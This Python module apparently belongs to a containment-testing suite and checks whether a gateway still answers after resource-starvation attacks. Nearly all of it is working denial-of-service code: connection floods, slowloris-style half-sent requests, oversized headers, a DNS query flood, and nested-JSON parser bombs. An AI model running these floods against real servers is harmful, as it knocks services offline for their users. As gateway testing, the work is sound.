"""Wearing the server out, so that it serves nobody or lets something by."""

# ruff: noqa: BLE001, S, SIM115
# mypy: ignore-errors

from __future__ import annotations

import contextlib
import socket
import time

from .kit import (
    BAIT,
    Blocked,
    attack,
    later,
    resolver,
    talk,
)


def allowed():
    """Seconds that a request takes which the gateway answers for the asking."""
    started = time.monotonic()
    with socket.create_connection(("comptroller.internal", 80), timeout=30) as connection:
        connection.settimeout(30)
        connection.sendall(b"GET /budget HTTP/1.1\r\nHost: comptroller.internal\r\nConnection: close\r\n\r\n")
        answer = connection.recv(200)
    if not answer.startswith(b"HTTP/1.1"):
        raise RuntimeError("the gateway does not answer")
    return time.monotonic() - started


def worn(function):
    """Got through where the gateway no longer answers this box after `function` has worn it out; whether it answered
    another box all the while is seen from outside."""
    kept = []
    with contextlib.suppress(OSError):
        function(kept)
    for link in kept:
        link.close()
    try:
        seconds = allowed()
    except Exception as error:
        return f"the gateway no longer answers: {error}"
    if seconds > BAIT["patience"]:
        return f"an answer took {seconds:.1f} s"
    raise Blocked(f"still answered after {seconds * 1000:.0f} ms")


@attack("starvation", "a flood of connections")
def connections():
    def flood(kept):
        for _ in range(1500):
            kept.append(socket.create_connection(("198.51.100.7", 443), timeout=1))

    return worn(flood)


@attack("starvation", "half-sent requests")
def half_sent():
    def flood(kept):
        for _ in range(300):
            kept.append(socket.create_connection(("198.51.100.7", 80), timeout=2))
            kept[-1].sendall(b"POST / HTTP/1.1\r\nHost: x.example\r\nContent-Length: 1000000\r\n\r\nx")

    return worn(flood)


@attack("starvation", "huge heads")
def huge():
    def flood(_):
        for _ in range(20):
            with socket.create_connection(("198.51.100.7", 80), timeout=3) as link, contextlib.suppress(OSError):
                link.settimeout(2)
                link.sendall(b"GET / HTTP/1.1\r\nHost: x.example\r\nX: " + b"a" * (1 << 20))

    return worn(flood)


@attack("starvation", "a flood of names")
def names():
    def flood(_):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.connect((resolver(), 53))
            for number in range(3000):
                name = f"{number:06d}".encode()
                link.send(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6" + name + b"\7example\3net\0\0\1\0\1")

    return worn(flood)


@attack("starvation", "memory and processor of the server")
def expensive():
    body = b"[" * 20000 + b"]" * 20000
    head = b"POST / HTTP/1.1\r\nHost: x.example\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"

    def flood(_):
        for _ in range(30):
            with socket.create_connection(("198.51.100.7", 80), timeout=3) as link, contextlib.suppress(OSError):
                link.settimeout(2)
                link.sendall(head % len(body) + body)
                link.recv(100)

    return worn(flood)


@later("starvation", "descriptors handed to the server", lambda: [p for p in BAIT["unix"] if p.endswith(".sock")])
def hand_over(path):
    """Descriptors can only be sent over unix sockets, of which none leads out."""
    return talk(socket.AF_UNIX, socket.SOCK_STREAM, path)
